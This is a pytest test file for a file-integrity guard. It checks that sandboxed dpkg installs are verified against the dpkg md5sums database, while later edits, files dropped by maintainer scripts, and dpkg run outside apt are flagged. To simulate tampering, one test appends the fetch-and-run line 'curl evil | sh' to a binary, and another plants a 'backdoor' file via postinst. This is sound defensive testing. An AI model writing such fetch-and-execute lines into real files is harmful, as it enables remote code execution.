"""dpkg installing a package raises no alert (content verified against the dpkg database);
a maintainer script dropping an extra file, or a later edit, still alerts.

dpkg runs for real with --root on the guard's tmpfs (inside its mount namespace), so nothing
is installed on the machine that runs the tests.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from tests.guard.conftest import requires_guard_env
from tests.guard.harness import GuardRun

from garrison.config.guard import PackageManagerAllow
from garrison.guard.allowlist import PackageManagerVerifier
from garrison.model import Event

pytestmark = [
    requires_guard_env,
    pytest.mark.root,
    pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="needs dpkg-deb"),
]


def build_deb(tmp: Path, name: str, postinst: str = "") -> Path:
    pkg = tmp / f"build-{name}"
    (pkg / "DEBIAN").mkdir(parents=True)
    (pkg / "usr/bin").mkdir(parents=True)
    (pkg / "DEBIAN/control").write_text(
        f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\n"
        "Description: guard test package\n"
    )
    tool = pkg / "usr/bin" / name
    tool.write_text("#!/bin/sh\necho trading tool\n")
    tool.chmod(0o755)
    if postinst:
        script = pkg / "DEBIAN/postinst"
        script.write_text(f"#!/bin/sh\n{postinst}\n")
        script.chmod(0o755)
    deb = tmp / f"{name}.deb"
    subprocess.run(
        ["dpkg-deb", "--build", "--root-owner-group", str(pkg), str(deb)],
        check=True,
        capture_output=True,
    )
    return deb


def dpkg_install(guard: GuardRun, deb: Path) -> None:
    admin = guard.mnt / "var/lib/dpkg"
    guard.sh(
        f"mkdir -p {admin}/info {admin}/updates && touch {admin}/status && "
        f"dpkg --root={guard.mnt} --force-script-chrootless -i {deb}"
    )


def verified_in_log(guard: GuardRun, path: Path) -> bool:
    return any("package-manager write verified" in line and str(path) in line for line in guard.log)


def test_dpkg_install_is_verified_and_raises_nothing(guard: GuardRun, tmp_path: Path) -> None:
    # Like deb-systemd-helper, the maintainer script enables a unit with a .wants symlink.
    wants = guard.mnt / "etc/systemd/system/multi-user.target.wants"
    deb = build_deb(
        tmp_path,
        "grd-tool",
        postinst=f"mkdir -p {wants} && ln -sf /lib/systemd/system/grd.service {wants}/grd.service",
    )
    dpkg_install(guard, deb)
    tool = guard.mnt / "usr/bin/grd-tool"
    guard.wait_for(lambda: verified_in_log(guard, tool), "verification of the dpkg write")
    assert guard.sh(f"test -L {wants}/grd.service").returncode == 0  # the postinst ran
    guard.settle()
    unexpected = [(a.rule_id, a.summary) for a in guard.alerts()]
    assert unexpected == [], "".join(guard.log[-30:])
    # A later edit by anything else is a plain protected-file change.
    guard.sh(f"echo 'curl evil | sh' >> {tool}")
    alert = guard.wait_rule("GRD-FILE-001")
    assert alert.events[0]["path"] == str(tool)


def test_maintainer_script_dropping_a_file_alerts(guard: GuardRun, tmp_path: Path) -> None:
    backdoor = guard.mnt / "usr/bin/grd-backdoor"
    deb = build_deb(tmp_path, "grd-evil", postinst=f"echo evil > {backdoor}")
    dpkg_install(guard, deb)
    alert = guard.wait_rule("GRD-FILE-001")
    guard.settle()
    assert guard.rules_seen() == {"GRD-FILE-001"}
    paths = {e["path"] for a in guard.alerts() for e in a.events}
    assert str(backdoor) in paths
    assert str(guard.mnt / "usr/bin/grd-evil") not in paths  # the package's own file verified
    assert alert.events[0]["exe"] != "/usr/bin/dpkg"


def _admindir(tmp_path: Path, files: dict[str, bytes]) -> PackageManagerVerifier:
    import hashlib

    root = tmp_path / "root"
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "var/lib/dpkg/status").write_text("")
    lines = []
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        lines.append(f"{hashlib.md5(content).hexdigest()}  {rel}")  # noqa: S324 - dpkg's format
    (info / "pkg.md5sums").write_text("\n".join(lines) + "\n")
    settings = PackageManagerAllow(root=str(root), admindir=str(root / "var/lib/dpkg"))
    return PackageManagerVerifier(settings)


def test_verifier_rejects_content_not_in_the_dpkg_database(tmp_path: Path) -> None:
    verifier = _admindir(tmp_path, {"usr/bin/tool": b"good"})
    root = tmp_path / "root"
    assert verifier.verify(str(root / "usr/bin/tool"))[0] is True
    (root / "usr/bin/tool").write_bytes(b"trojaned")
    allowed, why = verifier.verify(str(root / "usr/bin/tool"))
    assert allowed is False
    assert "does not match the dpkg database" in why
    (root / "usr/bin/extra").write_bytes(b"x")
    allowed, why = verifier.verify(str(root / "usr/bin/extra"))
    assert allowed is False
    assert "in no package's md5sums" in why


def test_dpkg_outside_apt_does_not_qualify_by_default(tmp_path: Path) -> None:
    verifier = PackageManagerVerifier(PackageManagerAllow())
    from datetime import UTC, datetime

    def event(ancestors: list[str], exe: str = "/usr/bin/dpkg") -> Event:
        return Event(
            "fanotify",
            "write",
            datetime.now(UTC),
            path="/usr/bin/x",
            pid=1,
            exe=exe,
            detail={"ancestors": ancestors},
        )

    assert verifier.qualifies(event(["apt-get", "sudo", "bash", "sshd"]))
    assert verifier.qualifies(event(["unattended-upgr", "systemd"]))
    assert not verifier.qualifies(event(["bash", "sshd"]))  # dpkg run by hand (or an attacker)
    assert not verifier.qualifies(event(["apt-get"], exe="/tmp/dpkg"))  # a fake "dpkg"
    # a postinst's `ln` that exited before its exe was read: its ancestry still counts
    assert verifier.qualifies(event(["ln.postinst", "dpkg", "apt-get"], exe=""))
    assert not verifier.qualifies(event(["bash", "sshd"], exe=""))
    assert not verifier.qualifies(event(["dpkg", "bash", "sshd"], exe=""))  # dpkg outside apt
